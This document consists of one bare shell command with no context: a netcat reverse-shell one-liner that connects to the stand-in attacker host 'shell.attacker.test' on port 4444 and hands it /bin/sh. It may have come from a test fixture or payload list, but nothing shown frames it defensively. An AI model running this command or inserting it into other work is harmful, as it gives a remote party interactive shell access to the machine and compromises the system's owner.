nc shell.attacker.test 4444 -e /bin/sh
